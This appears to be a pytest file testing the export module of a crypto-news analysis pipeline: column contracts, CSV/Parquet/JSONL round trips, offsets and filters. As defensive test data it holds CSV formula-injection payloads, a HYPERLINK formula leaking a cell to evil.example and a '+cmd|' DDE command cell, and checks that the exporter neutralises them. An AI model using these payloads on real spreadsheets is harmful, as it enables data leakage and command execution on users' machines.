"""Exports: declared columns, pandas round trips, evidence offsets, CSV injection, filters."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from dataclasses import dataclass
from datetime import UTC, datetime

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipeline.export import (
    COLUMNS,
    DOCS_BEGIN,
    DOCS_END,
    DOCS_PATH,
    EXPORT_KINDS,
    FORMULA_TRIGGERS,
    ExportError,
    ExportFilters,
    columns_for,
    columns_markdown,
    export_table,
    unguard_cell,
)
from pipeline.records import (
    Analysis,
    Article,
    ArticleStatus,
    Catalyst,
    Conflict,
    Direction,
    Entity,
    FeedEntry,
    Figure,
)
from pipeline.store import Store
from pipeline.times import parse_date_bound

MODEL = "direction-minilm@test"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for gains")'

LIQUIDATIONS_TEXT = (
    "Bitcoin fell to $60,000 on Friday, and traders lost $2.65 billion to liquidations in a "
    "single day.\n\n"
    "Open Interest in crypto derivatives shrank to $95.73 billion, well below the October peak. "
    "Another tally put the day's losses at $2.65 million.\n\n"
    "The Fear and Greed Index sank to 5, a reading of extreme fear."
)
ETF_TEXT = (
    "U.S. spot Bitcoin ETFs saw an outflow of $258 million on Thursday, a third month of "
    "withdrawals.\n\n"
    "Strategy, the largest corporate holder of Bitcoin, reported a loss of $12.6 billion for "
    'Q4 2025, and its shares, "MSTR" on Nasdaq, closed near $106, down 17%.'
)
HOSTILE_TEXT = (
    "+cmd|' /C calc'!A0 opened a story about Ether, written to test our guards.\n\n"
    "@SUM(1+1) sat at the start of a second paragraph, where Ether fell 8%.\n\n"
    "\tA tab-indented line said Ether traders were nervous, and sold.\n\n"
    "-2% was the Ether move at the close, a writer claimed.\n\n"
    "'=quoted openings must survive the round trip, Ether holders."
)


def evidence(text: str, snippet: str) -> tuple[int, int]:
    assert text.count(snippet) == 1, snippet
    start = text.index(snippet)
    return start, start + len(snippet)


def figure(
    text: str, snippet: str, value: float, unit: str, metric: str, *, within: str = "", **extra
) -> Figure:
    """A figure at `snippet`, found inside the unique phrase `within` when the number recurs."""
    if within:
        start = evidence(text, within)[0] + within.index(snippet)
    else:
        start = evidence(text, snippet)[0]
    return Figure(snippet, start, start + len(snippet), value, unit, metric, **extra)


def entity(text: str, snippet: str, label: str, ticker: str | None, nth: int = 0) -> Entity:
    start = -1
    for _ in range(nth + 1):
        start = text.index(snippet, start + 1)
    return Entity(snippet, label, start, start + len(snippet), ticker)


def catalyst(
    text: str, sentence: str, category: str, direction: Direction, confidence: float,
    assets: list[str], figures: list[Figure] = (),
) -> Catalyst:
    start, end = evidence(text, sentence)
    return Catalyst(
        sentence, start, end, category, direction, confidence, list(assets), list(figures), MODEL
    )


def liquidations_analysis() -> Analysis:
    text = LIQUIDATIONS_TEXT
    price = figure(text, "$60,000", 60000.0, "USD", "price", asset="BTC")
    wiped = figure(text, "$2.65 billion", 2.65e9, "USD", "liquidations", period="24h")
    misprint = figure(text, "$2.65 million", 2.65e6, "USD", "liquidations", period="24h")
    interest = figure(text, "$95.73 billion", 9.573e10, "USD", "open_interest")
    fear = figure(text, "5", 5.0, "index_points", "fear_greed", within="sank to 5,")
    first, second, third = (
        "Bitcoin fell to $60,000 on Friday, and traders lost $2.65 billion to liquidations in a "
        "single day.",
        "Open Interest in crypto derivatives shrank to $95.73 billion, well below the October "
        "peak.",
        "The Fear and Greed Index sank to 5, a reading of extreme fear.",
    )
    return Analysis(
        entities=[
            entity(text, "Bitcoin", "ASSET", "BTC"),
            entity(text, "Fear and Greed Index", "INDICATOR", None),
        ],
        figures=[price, wiped, interest, misprint, fear],
        catalysts=[
            catalyst(text, first, "liquidations", Direction.BEARISH, 0.91, ["BTC"], [wiped]),
            catalyst(text, second, "derivatives", Direction.BEARISH, 0.74, ["BTC"], [interest]),
            catalyst(text, third, "sentiment", Direction.BEARISH, 0.66, []),
        ],
        conflicts=[Conflict("liquidations", "24h", wiped, misprint, "values differ 1000-fold")],
    )


def etf_analysis() -> Analysis:
    text = ETF_TEXT
    outflow = figure(
        text, "an outflow of $258 million", -2.58e8, "USD", "etf_flow", asset="BTC", period="day"
    )
    loss = figure(text, "$12.6 billion", -1.26e10, "USD", "net_income", period="Q4 2025")
    drop = figure(text, "17%", -17.0, "percent", "price_change", asset="MSTR")
    return Analysis(
        entities=[
            entity(text, "Bitcoin", "ASSET", "BTC", 0),
            entity(text, "Strategy", "COMPANY", "MSTR"),
            entity(text, "Bitcoin", "ASSET", "BTC", 1),
            entity(text, "MSTR", "COMPANY", "MSTR"),
        ],
        figures=[outflow, loss, drop],
        catalysts=[
            catalyst(
                text,
                "U.S. spot Bitcoin ETFs saw an outflow of $258 million on Thursday, a third month "
                "of withdrawals.",
                "etf_flows", Direction.BEARISH, 0.88, ["BTC"], [outflow],
            ),
            catalyst(
                text,
                "Strategy, the largest corporate holder of Bitcoin, reported a loss of $12.6 "
                'billion for Q4 2025, and its shares, "MSTR" on Nasdaq, closed near $106, down '
                "17%.",
                "earnings", Direction.BEARISH, 0.8, ["MSTR", "BTC"], [loss, drop],
            ),
        ],
    )


def hostile_analysis() -> Analysis:
    text = HOSTILE_TEXT
    sentences = [
        ("+cmd|' /C calc'!A0 opened a story about Ether, written to test our guards.", 0.55,
         Direction.NEUTRAL),
        ("@SUM(1+1) sat at the start of a second paragraph, where Ether fell 8%.", 0.4,
         Direction.BEARISH),
        ("\tA tab-indented line said Ether traders were nervous, and sold.", 0.97,
         Direction.BEARISH),
        ("-2% was the Ether move at the close, a writer claimed.", 0.62, Direction.BULLISH),
        ("'=quoted openings must survive the round trip, Ether holders.", 0.5,
         Direction.NEUTRAL),
    ]
    return Analysis(
        entities=[entity(text, "Ether", "ASSET", "ETH", nth) for nth in range(5)],
        figures=[
            figure(text, "8%", -8.0, "percent", "price_change", asset="ETH"),
            figure(text, "-2%", -2.0, "percent", "price_change", asset="ETH"),
        ],
        catalysts=[
            catalyst(text, sentence, "other", direction, confidence, ["ETH"])
            for sentence, confidence, direction in sentences
        ],
    )


@dataclass
class Ids:
    liquidations: int
    etf: int
    syndicated: int
    hostile: int
    rejected: int


def save(store: Store, source: str, url: str, article: Article, status: ArticleStatus,
         **kwargs) -> int:
    entry = FeedEntry(feed_name=source, url=url, canonical_url=url, title=article.title)
    return store.save_article(entry, article, status, model=MODEL, **kwargs)


def fill(store: Store) -> Ids:
    liquidations = save(
        store, "fxstreet", "https://www.fxstreet.com/crypto/liquidations-hit",
        Article(url="https://www.fxstreet.com/crypto/liquidations-hit",
                title="Crypto market loses $2.65 billion as Bitcoin dips to $60,000",
                text=LIQUIDATIONS_TEXT, published_at=datetime(2026, 2, 6, 8, 30, tzinfo=UTC),
                language="en"),
        ArticleStatus.PROCESSED, analysis=liquidations_analysis(),
    )
    etf = save(
        store, "coindesk", "https://www.coindesk.com/markets/etf-outflows",
        Article(url="https://www.coindesk.com/markets/etf-outflows",
                title="Bitcoin ETFs bleed, Strategy books a Q4 loss", text=ETF_TEXT,
                published_at=datetime(2026, 2, 5, 21, 0, tzinfo=UTC), language="en"),
        ArticleStatus.PROCESSED, analysis=etf_analysis(),
    )
    syndicated = save(
        store, "mitrade", "https://www.mitrade.com/ko/insights/news/liquidations-hit",
        Article(url="https://www.mitrade.com/ko/insights/news/liquidations-hit",
                title="Crypto market loses $2.65 billion as Bitcoin dips to $60,000",
                text=LIQUIDATIONS_TEXT, published_at=datetime(2026, 2, 6, 10, 0, tzinfo=UTC),
                language="en"),
        ArticleStatus.DUPLICATE, analysis=liquidations_analysis(), duplicate_of=liquidations,
    )
    hostile = save(
        store, "hostile-feed", "https://hostile.example/ether",
        Article(url="https://hostile.example/ether", title=HOSTILE_TITLE, text=HOSTILE_TEXT,
                published_at=datetime(2026, 2, 4, 12, 0, tzinfo=UTC), language="en"),
        ArticleStatus.PROCESSED, analysis=hostile_analysis(),
    )
    rejected = save(
        store, "coindesk", "https://www.coindesk.com/video/no-text",
        Article(url="https://www.coindesk.com/video/no-text", title="+1 video you must see"),
        ArticleStatus.REJECTED, reject_reason="no_article_text",
    )
    return Ids(liquidations, etf, syndicated, hostile, rejected)


@pytest.fixture()
def filled(store) -> tuple[Store, Ids]:
    return store, fill(store)


def export_jsonl(store: Store, kind: str, filters: ExportFilters | None = None) -> list[dict]:
    out = io.StringIO()
    count = export_table(store, kind, out, "jsonl", filters or ExportFilters())
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert len(rows) == count
    return rows


def export_csv_rows(store: Store, kind: str, filters: ExportFilters | None = None) -> list[dict]:
    out = io.StringIO()
    export_table(store, kind, out, "csv", filters or ExportFilters())
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


# -- the contract --------------------------------------------------------------------------------


def test_docs_document_every_declared_column():
    docs = DOCS_PATH.read_text(encoding="utf-8")
    generated = docs.split(DOCS_BEGIN, 1)[1].split(DOCS_END, 1)[0]
    assert generated.strip() == columns_markdown().strip(), (
        "README.md is out of step with COLUMNS: run "
        "`.venv/bin/python -c 'from pipeline.export import update_docs; update_docs()'`"
    )
    for kind, columns in COLUMNS.items():
        section = generated.split(f"### `{kind}`", 1)[1].split("### ", 1)[0]
        for column in columns:
            assert f"| `{column.name}` | {column.type} | {column.description}" in section


def test_every_kind_writes_exactly_its_declared_columns_in_order(filled):
    store, _ = filled
    for kind in EXPORT_KINDS:
        rows = export_jsonl(store, kind)
        assert rows, kind
        assert [list(row) for row in rows] == [[c.name for c in COLUMNS[kind]]] * len(rows)
        header = export_csv_rows(store, kind)[0].keys()
        assert list(header) == [c.name for c in columns_for(kind, "csv")]
    assert "text" not in [c.name for c in columns_for("articles", "csv")]


def test_required_catalyst_columns_are_the_agreed_ones():
    assert [c.name for c in COLUMNS["catalysts"]] == [
        "article_id", "url", "source", "published_at", "title", "category", "event_type",
        "direction", "confidence", "assets", "sentence", "start_char", "end_char", "model",
    ]


# -- round trips -----------------------------------------------------------------------------------


def test_csv_round_trips_through_pandas_with_real_dtypes(filled, tmp_path):
    store, ids = filled
    path = tmp_path / "catalysts.csv"
    count = export_table(store, "catalysts", path, "csv", ExportFilters())
    frame = pd.read_csv(path, parse_dates=["published_at"], keep_default_na=False, na_values=[""])
    assert count == len(frame) == 10  # 3 + 2 + 5, the syndicated copy left out
    assert frame["article_id"].dtype == "int64"
    assert frame["start_char"].dtype == "int64" and frame["end_char"].dtype == "int64"
    assert frame["confidence"].dtype == "float64"
    assert isinstance(frame["published_at"].dtype, pd.DatetimeTZDtype)
    assert str(frame["published_at"].dt.tz) == "UTC"
    # Stable order: oldest article first, then offsets.
    assert list(frame["article_id"]) == [ids.hostile] * 5 + [ids.etf] * 2 + [ids.liquidations] * 3
    assert frame["published_at"].is_monotonic_increasing
    strategy = frame[frame["article_id"] == ids.etf].iloc[1]
    assert strategy["published_at"] == pd.Timestamp("2026-02-05T21:00:00Z")
    assert strategy["assets"] == "MSTR;BTC"
    assert strategy["confidence"] == pytest.approx(0.8)
    assert strategy["model"] == MODEL


def test_parquet_round_trips_with_real_types(filled, tmp_path):
    store, ids = filled
    path = tmp_path / "catalysts.parquet"
    count = export_table(store, "catalysts", path, "parquet", ExportFilters())
    schema = pq.read_schema(path)
    assert schema.field("published_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("article_id").type == pa.int64()
    assert schema.field("confidence").type == pa.float64()
    assert schema.field("assets").type == pa.list_(pa.string())
    assert schema.field("sentence").metadata[b"description"]
    frame = pd.read_parquet(path)
    assert len(frame) == count == 10
    assert frame["start_char"].dtype == "int64"
    assert str(frame["published_at"].dt.tz) == "UTC"
    etf = frame[frame["article_id"] == ids.etf]
    assert [list(assets) for assets in etf["assets"]] == [["BTC"], ["MSTR", "BTC"]]
    # Parquet carries text unguarded.
    assert frame["sentence"].iloc[0].startswith("+cmd")

    figures = pd.read_parquet(export_path(store, tmp_path, "figures", "parquet"))
    assert figures["value"].dtype == "float64"
    assert figures["value_high"].isna().all()
    articles = pq.read_table(export_path(store, tmp_path, "articles", "parquet"))
    assert articles.schema.field("duplicate_of").type == pa.int64()
    assert "text" in articles.column_names


def export_path(store: Store, tmp_path, kind: str, fmt: str, filters=None):
    path = tmp_path / f"{kind}.{fmt}"
    export_table(store, kind, path, fmt, filters or ExportFilters())
    return path


def test_parquet_is_written_in_batches(filled, tmp_path, monkeypatch):
    import pipeline.export

    store, _ = filled
    monkeypatch.setattr(pipeline.export, "PARQUET_BATCH_ROWS", 3)
    path = export_path(store, tmp_path, "catalysts", "parquet")
    assert pq.ParquetFile(path).metadata.num_rows == 10
    assert pq.read_table(path).column("article_id").num_chunks >= 3


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_every_exported_offset_points_at_its_evidence(filled, fmt):
    store, ids = filled
    texts = {row["article_id"]: row["text"] for row in export_jsonl(
        store, "articles", ExportFilters(include_duplicates=True))}
    assert texts[ids.liquidations] == LIQUIDATIONS_TEXT
    filters = ExportFilters(include_duplicates=True)
    read = export_jsonl if fmt == "jsonl" else export_csv_rows
    checked = 0
    for kind, field in (("catalysts", "sentence"), ("figures", "text"), ("entities", "text")):
        for row in read(store, kind, filters):
            text = texts[int(row["article_id"])]
            start, end = int(row["start_char"]), int(row["end_char"])
            evidence_text = row[field] if fmt == "jsonl" else unguard_cell(row[field])
            assert text[start:end] == evidence_text, (kind, row)
            checked += 1
    for row in read(store, "conflicts", filters):
        text = texts[int(row["article_id"])]
        for side in ("first", "second"):
            start, end = int(row[f"{side}_start_char"]), int(row[f"{side}_end_char"])
            assert text[start:end] == row[f"{side}_text"]
            checked += 1
    assert checked == 13 + 15 + 13 + 2 * 2


def test_jsonl_keeps_types_and_nulls(filled):
    store, ids = filled
    articles = {row["article_id"]: row for row in export_jsonl(store, "articles")}
    rejected = articles[ids.rejected]
    assert rejected["status"] == "rejected" and rejected["reject_reason"] == "no_article_text"
    assert rejected["published_at"] is None and rejected["duplicate_of"] is None
    assert articles[ids.etf]["published_at"] == "2026-02-05T21:00:00Z"
    catalysts = export_jsonl(store, "catalysts", ExportFilters(asset="MSTR"))
    assert catalysts[0]["assets"] == ["MSTR", "BTC"]
    assert isinstance(catalysts[0]["confidence"], float)
    assert isinstance(catalysts[0]["start_char"], int)


def test_rfc4180_quoting_survives_commas_quotes_and_line_breaks(filled):
    store, ids = filled
    rows = export_csv_rows(store, "catalysts", ExportFilters(asset="MSTR"))
    assert rows[0]["sentence"].count('"MSTR"') == 1 and "," in rows[0]["sentence"]
    out = io.StringIO()
    export_table(store, "catalysts", out, "csv", ExportFilters(asset="MSTR"))
    assert out.getvalue().startswith("article_id,url,source,")
    assert out.getvalue().endswith("\r\n")


# -- spreadsheet safety ----------------------------------------------------------------------------


def test_hostile_cells_are_neutralised_and_numbers_stay_numbers(filled, tmp_path):
    store, ids = filled
    raw = export_path(store, tmp_path, "catalysts", "csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    text_columns = [c.name for c in COLUMNS["catalysts"] if c.type in ("text", "list of text")]
    for row in rows:
        for name in text_columns:
            assert not row[name].startswith(FORMULA_TRIGGERS), (name, row[name])
    hostile = [row for row in rows if int(row["article_id"]) == ids.hostile]
    assert hostile[0]["title"] == "'" + HOSTILE_TITLE
    assert unguard_cell(hostile[0]["title"]) == HOSTILE_TITLE
    assert [row["sentence"][:3] for row in hostile] == ["'+c", "'@S", "'\tA", "'-2", "''="]

    figures_raw = export_path(store, tmp_path, "figures", "csv").read_text(encoding="utf-8")
    assert ",-258000000.0,USD," in figures_raw  # a negative number is written bare
    assert ",'-2%," in figures_raw  # while a text cell starting with '-' is guarded
    figures = pd.read_csv(io.StringIO(figures_raw), keep_default_na=False, na_values=[""])
    assert figures["value"].dtype == "float64"
    assert figures["value"].min() == -1.26e10

    articles = export_csv_rows(store, "articles")
    assert {row["title"] for row in articles} >= {"'" + HOSTILE_TITLE, "'+1 video you must see"}


def test_guard_round_trips_any_text():
    from pipeline.export import guard_cell

    for text in ["=1+1", "+cmd", "-2", "@SUM(A1)", "\tx", "\rx", "'", "''=x", "plain", ""]:
        guarded = guard_cell(text)
        assert not guarded.startswith(FORMULA_TRIGGERS)
        assert unguard_cell(guarded) == text


# -- empty, filters, duplicates --------------------------------------------------------------------


@pytest.mark.parametrize("kind", EXPORT_KINDS)
def test_empty_database_gives_header_only_files(store, tmp_path, kind):
    csv_path = export_path(store, tmp_path, kind, "csv")
    names = [c.name for c in columns_for(kind, "csv")]
    assert csv_path.read_bytes().decode("utf-8") == ",".join(names) + "\r\n"
    assert export_path(store, tmp_path, kind, "jsonl").read_bytes() == b""
    table = pq.read_table(export_path(store, tmp_path, kind, "parquet"))
    assert table.num_rows == 0 and table.column_names == [c.name for c in COLUMNS[kind]]


def test_time_filters_bound_the_article_time(filled):
    store, ids = filled
    fifth = ExportFilters(
        since=parse_date_bound("2026-02-05"), until=parse_date_bound("2026-02-05", end=True)
    )
    assert {row["article_id"] for row in export_jsonl(store, "catalysts", fifth)} == {ids.etf}
    from_fifth = ExportFilters(since=parse_date_bound("2026-02-05"))
    assert {row["article_id"] for row in export_jsonl(store, "figures", from_fifth)} == {
        ids.etf, ids.liquidations}
    before_noon = ExportFilters(until=parse_date_bound("2026-02-04T12:00:00Z"))
    assert export_jsonl(store, "entities", before_noon) == []  # `until` is exclusive
    undated = ExportFilters(since=parse_date_bound("2026-02-07"))
    # An undated article counts by when it was fetched (now).
    assert [row["article_id"] for row in export_jsonl(store, "articles", undated)] == [
        ids.rejected]


def test_asset_filter_narrows_every_kind(filled):
    store, ids = filled
    mstr = ExportFilters(asset="MSTR")
    assert [row["sentence"][:8] for row in export_jsonl(store, "catalysts", mstr)] == ["Strategy"]
    assert [row["text"] for row in export_jsonl(store, "figures", mstr)] == ["17%"]
    assert [row["text"] for row in export_jsonl(store, "entities", mstr)] == ["Strategy", "MSTR"]
    assert [row["article_id"] for row in export_jsonl(store, "articles", mstr)] == [ids.etf]
    btc = ExportFilters(asset="BTC")
    assert [row["metric"] for row in export_jsonl(store, "conflicts", btc)] == []
    assert len(export_jsonl(store, "catalysts", btc)) == 4
    assert [row["asset"] for row in export_jsonl(store, "signal", btc)] == ["BTC", "BTC"]


def test_min_confidence_keeps_catalysts_at_or_above(filled):
    store, _ = filled
    kept = export_jsonl(store, "catalysts", ExportFilters(min_confidence=0.8))
    assert sorted(row["confidence"] for row in kept) == [0.8, 0.88, 0.91, 0.97]
    with pytest.raises(ExportError, match="min-confidence"):
        export_table(store, "figures", io.StringIO(), "csv", ExportFilters(min_confidence=0.5))


def test_syndicated_duplicates_are_left_out_unless_asked_for(filled):
    store, ids = filled
    default = export_jsonl(store, "catalysts")
    assert ids.syndicated not in {row["article_id"] for row in default}
    everything = export_jsonl(store, "catalysts", ExportFilters(include_duplicates=True))
    assert len(everything) == len(default) + 3
    copies = [row for row in everything if row["article_id"] == ids.syndicated]
    assert [row["source"] for row in copies] == ["mitrade"] * 3
    articles = export_jsonl(store, "articles", ExportFilters(include_duplicates=True))
    copy = next(row for row in articles if row["article_id"] == ids.syndicated)
    assert copy["status"] == "duplicate" and copy["duplicate_of"] == ids.liquidations
    assert len(export_jsonl(store, "conflicts")) == 1
    assert len(export_jsonl(store, "conflicts", ExportFilters(include_duplicates=True))) == 2


# -- outputs --------------------------------------------------------------------------------------


def test_dash_writes_to_standard_output(filled, capsys):
    store, _ = filled
    count = export_table(store, "entities", "-", "csv", ExportFilters(asset="MSTR"))
    lines = capsys.readouterr().out.splitlines()
    assert count == 2 and lines[0] == "article_id,url,text,label,ticker,start_char,end_char"
    assert len(lines) == 3


def test_parquet_to_a_pipe_on_standard_output(filled, tmp_path):
    store, _ = filled
    database = store.path
    script = (
        "import sys; from pipeline.store import Store; from pipeline.export import export_table, "
        "ExportFilters\n"
        f"with Store.open({database!r}) as store:\n"
        "    n = export_table(store, 'catalysts', '-', 'parquet', ExportFilters())\n"
        "print(n, file=sys.stderr)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, check=True, timeout=120
    )
    table = pq.read_table(pa.BufferReader(done.stdout))
    assert table.num_rows == int(done.stderr.decode().strip()) == 10


def test_binary_stream_gets_utf8_csv_and_stays_open(filled):
    store, _ = filled
    out = io.BytesIO()
    export_table(store, "catalysts", out, "csv", ExportFilters(asset="ETH"))
    assert not out.closed
    assert out.getvalue().decode("utf-8").count("\r\n") == 6


def test_a_failed_export_leaves_the_old_file_and_no_partial_one(filled, tmp_path, monkeypatch):
    import pipeline.export

    store, _ = filled
    target = tmp_path / "out.csv"
    target.write_text("yesterday's export\n", encoding="utf-8")
    real_guard = pipeline.export.guard_cell

    def guard_failing_midway(text: str) -> str:
        if text.startswith("Strategy"):
            raise RuntimeError("disk full")
        return real_guard(text)

    monkeypatch.setattr(pipeline.export, "guard_cell", guard_failing_midway)
    with pytest.raises(RuntimeError, match="disk full"):
        export_table(store, "catalysts", target, "csv", ExportFilters())
    assert target.read_text(encoding="utf-8") == "yesterday's export\n"
    assert not (tmp_path / "out.csv.partial").exists()


def test_requests_that_cannot_be_met_are_clear_errors(filled, tmp_path):
    store, _ = filled
    target = tmp_path / "out.csv"
    with pytest.raises(ExportError, match="include-duplicates"):
        export_table(store, "signal", target, "csv", ExportFilters(include_duplicates=True))
    with pytest.raises(ExportError, match="unknown export"):
        export_table(store, "tweets", target, "csv", ExportFilters())
    with pytest.raises(ExportError, match="unknown format"):
        export_table(store, "catalysts", target, "xlsx", ExportFilters())
    assert not target.exists()


# -- with the real NLP pipeline -------------------------------------------------------------------

REAL_TEXTS = {
    "https://news.example/etf-outflows": (
        "U.S. spot Bitcoin ETFs saw an outflow of $258 million on Thursday 📉, their third week "
        "of withdrawals.\n\nOpen Interest in Bitcoin futures fell to $95.73 billion, while one "
        "data site said $95.73 million.\n\nMichael Saylor’s Strategy reported an operating loss "
        "of $17.4 billion for the quarter."
    ),
    "https://news.example/fear-index": (
        "출처 Fxstreet. The Fear and Greed Index fell to 5 on Friday as Ethereum slid 8% to "
        "$1,800.\n\nTraders liquidated €120 million of long positions in a day."
    ),
}


def test_offsets_from_the_real_nlp_pipeline_survive_store_and_export(
    nlp_no_catalysts, store, tmp_path
):
    from pipeline.nlp import analyze

    for number, (url, text) in enumerate(REAL_TEXTS.items()):
        doc = nlp_no_catalysts(text)
        analysis = analyze(doc)
        for sentence in doc.sents:
            cited = [f for f in analysis.figures
                     if sentence.start_char <= f.start_char < sentence.end_char]
            tickers = [e.ticker for e in analysis.entities if e.ticker
                       and sentence.start_char <= e.start_char < sentence.end_char]
            if cited:
                analysis.catalysts.append(Catalyst(
                    sentence.text, sentence.start_char, sentence.end_char, "other",
                    Direction.NEUTRAL, 0.5, list(dict.fromkeys(tickers)), cited, MODEL,
                ))
        assert analysis.figures and analysis.catalysts and analysis.entities
        save(store, f"feed{number}", url,
             Article(url=url, title=url, text=text, language="en",
                     published_at=datetime(2026, 2, 6, number, tzinfo=UTC)),
             ArticleStatus.PROCESSED, analysis=analysis)
    articles = pq.read_table(export_path(store, tmp_path, "articles", "parquet")).to_pylist()
    texts = {row["article_id"]: row["text"] for row in articles}
    assert sorted(texts.values()) == sorted(REAL_TEXTS.values())
    checked = 0
    for kind, field in (("catalysts", "sentence"), ("figures", "text"), ("entities", "text")):
        csv_rows = list(csv.DictReader(
            export_path(store, tmp_path, kind, "csv").open(encoding="utf-8", newline="")))
        parquet_rows = pq.read_table(export_path(store, tmp_path, kind, "parquet")).to_pylist()
        assert len(csv_rows) == len(parquet_rows) > 0
        for from_csv, from_parquet in zip(csv_rows, parquet_rows, strict=True):
            text = texts[from_parquet["article_id"]]
            start, end = from_parquet["start_char"], from_parquet["end_char"]
            assert text[start:end] == from_parquet[field] == unguard_cell(from_csv[field])
            assert (int(from_csv["start_char"]), int(from_csv["end_char"])) == (start, end)
            checked += 1
    conflicts = export_jsonl(store, "conflicts")
    assert [row["first_text"] for row in conflicts] == ["$95.73 billion"]
    assert checked > 10
